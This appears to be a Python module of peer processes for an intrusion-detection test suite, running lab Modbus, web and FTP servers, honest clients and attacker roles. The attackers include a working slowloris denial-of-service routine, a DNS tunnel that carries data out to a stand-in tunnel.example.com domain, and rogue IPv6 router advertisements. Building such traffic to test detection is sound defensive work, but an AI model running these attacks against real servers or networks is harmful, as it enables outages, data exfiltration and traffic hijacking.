"""Peers for test_ids_attacks.py, each a process of its own: small servers with real frames, attackers, honest clients.

Usage: ids_peers.py ROLE ADDRESS. A server serves until it is killed; a client ends by itself.
"""

from __future__ import annotations

import base64
import contextlib
import http.client
import http.server
import os
import socket
import socketserver
import struct
import sys
import threading
import time
from collections.abc import Callable

MODBUS, WEB, FTP, DNS = 502, 8080, 21, 53
ALL_NODES = "ff02::1"


# -- Modbus/TCP: MBAP header and PDU (Modbus Application Protocol 1.1b3) --


class ModbusServer(socketserver.BaseRequestHandler):
    """Holds 64 registers and 64 coils; answers functions 1, 3, 5, 6, 15 and 16."""

    registers = [0] * 64
    coils = [0] * 64

    def handle(self) -> None:
        with contextlib.suppress(ConnectionError, struct.error):
            while head := self.request.recv(7, socket.MSG_WAITALL):
                number, protocol, length, unit = struct.unpack("!HHHB", head)
                answer = self.answer(self.request.recv(length - 1, socket.MSG_WAITALL))
                self.request.sendall(struct.pack("!HHHB", number, protocol, len(answer) + 1, unit) + answer)

    def answer(self, request: bytes) -> bytes:
        function, start, value = struct.unpack("!BHH", request[:5])
        if function == 3:
            words = self.registers[start : start + value]
            return struct.pack(f"!BB{len(words)}H", function, 2 * len(words), *words)
        if function == 1:
            return struct.pack(
                "!BBB", function, 1, sum(bit << at for at, bit in enumerate(self.coils[start : start + 8]))
            )
        if function == 6:
            self.registers[start] = value
        elif function == 5:
            self.coils[start] = value >> 15
        elif function not in {15, 16}:
            return bytes([function | 0x80, 1])  # illegal function
        return request[:5]


def modbus_exchange(connection: socket.socket, number: int, pdu: bytes) -> bytes:
    connection.sendall(struct.pack("!HHHB", number, 0, len(pdu) + 1, 1) + pdu)
    head = connection.recv(7, socket.MSG_WAITALL)
    return connection.recv(struct.unpack("!H", head[4:6])[0] - 1, socket.MSG_WAITALL)


def modbus_client(address: str, functions: list[int], pause_s: float, seconds: float) -> None:
    with socket.create_connection((address, MODBUS), timeout=5) as connection:
        deadline_s, number = time.monotonic() + seconds, 0
        while time.monotonic() < deadline_s:
            for function in functions:
                number += 1
                pdu = struct.pack("!BHH", function, 1, 0xFF00 if function == 5 else 4)
                if function == 16:
                    pdu += struct.pack("!BHHHH", 8, 1, 2, 3, 4)
                answer = modbus_exchange(connection, number & 0xFFFF, pdu)
                if answer[0] != function:
                    raise SystemExit(f"function {function} was answered by {answer!r}")
                time.sleep(pause_s)


# -- the web --


class Web(http.server.BaseHTTPRequestHandler):
    """Pages of 20 kB; connections stay open."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        body = b"x" * 20_000
        self.send_response(200 if self.path != "/missing" else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


class WebServer(http.server.ThreadingHTTPServer):
    request_queue_size = 512


def browse(address: str) -> None:
    """As a browser: pages with six connections each, objects one after the other, some connections new each time."""
    for _page in range(12):
        workers = [threading.Thread(target=load_objects, args=(address,)) for _ in range(6)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join()
        time.sleep(0.2)


def load_objects(address: str) -> None:
    connection = http.client.HTTPConnection(address, WEB, timeout=10)
    for number in range(15):
        path = "/missing" if number == 7 else f"/object/{number}?v={time.time_ns()}"
        connection.request("GET", path, headers={"User-Agent": "Mozilla/5.0", "Accept": "*/*"})
        connection.getresponse().read()
    connection.close()


def slowloris(address: str) -> None:
    held = []
    for number in range(80):
        connection = socket.create_connection((address, WEB), timeout=5)
        connection.sendall(f"GET /?{number} HTTP/1.1\r\nHost: {address}\r\n".encode())
        held.append(connection)
    for number in range(30):
        time.sleep(0.5)
        for connection in held:
            connection.sendall(f"X-a: {number}\r\n".encode())


# -- FTP: as much as a login takes (RFC 959) --


class FtpServer(socketserver.StreamRequestHandler):
    """Knows one user: lab, tidegate."""

    def handle(self) -> None:
        with contextlib.suppress(ConnectionError):
            self.wfile.write(b"220 lab ready\r\n")
            user = ""
            for line in self.rfile:
                word, _, rest = line.decode(errors="replace").strip().partition(" ")
                reply = {"USER": b"331 password\r\n", "QUIT": b"221 bye\r\n"}.get(word.upper(), b"502 no\r\n")
                if word.upper() == "USER":
                    user = rest
                elif word.upper() == "PASS":
                    reply = b"230 welcome\r\n" if (user, rest) == ("lab", "tidegate") else b"530 wrong\r\n"
                self.wfile.write(reply)
                if word.upper() == "QUIT":
                    return


def ftp_logins(address: str) -> None:
    for _ in range(15):
        with socket.create_connection((address, FTP), timeout=5) as connection, connection.makefile("rwb", 0) as stream:
            stream.readline()
            for line in (b"USER lab\r\n", b"PASS tidegate\r\n", b"QUIT\r\n"):
                stream.write(line)
                stream.readline()


# -- DNS (RFC 1035) --


def dns_query(connection: socket.socket, number: int, name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    connection.send(
        struct.pack("!HHHHHH", number & 0xFFFF, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)
    )
    return connection.recv(4096)


def dns_tunnel(address: str) -> None:
    """Carry 12 kB out: 30 bytes a name, in base32, as such tools do."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(2)
        connection.connect((address, DNS))
        for number in range(400):
            data = base64.b32encode(os.urandom(30)).decode().rstrip("=").lower()
            with contextlib.suppress(TimeoutError, ConnectionError):
                dns_query(connection, number, f"{data}.t.tunnel.example.com", 16)
            time.sleep(0.02)


def dns_lookups(address: str) -> None:
    """As a household: a few hundred names, most of them short, some long names of a content network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(2)
        connection.connect((address, DNS))
        for number in range(300):
            name = f"host{number % 40}.example{number % 25}.com"
            if number % 10 == 0:
                name = f"d111111abcdef{number % 50:03d}.cdn.content-network.example.net"
            dns_query(connection, number, name, 28 if number % 2 else 1)
            time.sleep(0.01)


# -- the link --


def advertise_router(_address: str) -> None:
    """Router advertisements (RFC 4861 section 4.2): lifetime half an hour, no prefix."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6) as sender:
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        scope = socket.if_nametoindex("eth0")
        for _ in range(3):
            sender.sendto(struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), (ALL_NODES, 0, 0, scope))
            time.sleep(0.3)


def serve(kind: Callable[..., socketserver.BaseServer], port: int, handler: type) -> Callable[[str], None]:
    def run(address: str) -> None:
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingTCPServer.daemon_threads = True
        with kind((address, port), handler) as server:
            server.serve_forever()

    return run


ROLES: dict[str, Callable[[str], None]] = {
    "modbus-server": serve(socketserver.ThreadingTCPServer, MODBUS, ModbusServer),
    "modbus-reads": lambda address: modbus_client(address, [3, 1], 0.02, 4.0),
    "modbus-writes": lambda address: modbus_client(address, [16, 5], 0.2, 2.0),
    "web-server": serve(WebServer, WEB, Web),
    "browser": browse,
    "slowloris": slowloris,
    "ftp-server": serve(socketserver.ThreadingTCPServer, FTP, FtpServer),
    "ftp-logins": ftp_logins,
    "dns-tunnel": dns_tunnel,
    "dns-lookups": dns_lookups,
    "router": advertise_router,
}

if __name__ == "__main__":
    ROLES[sys.argv[1]](sys.argv[2])
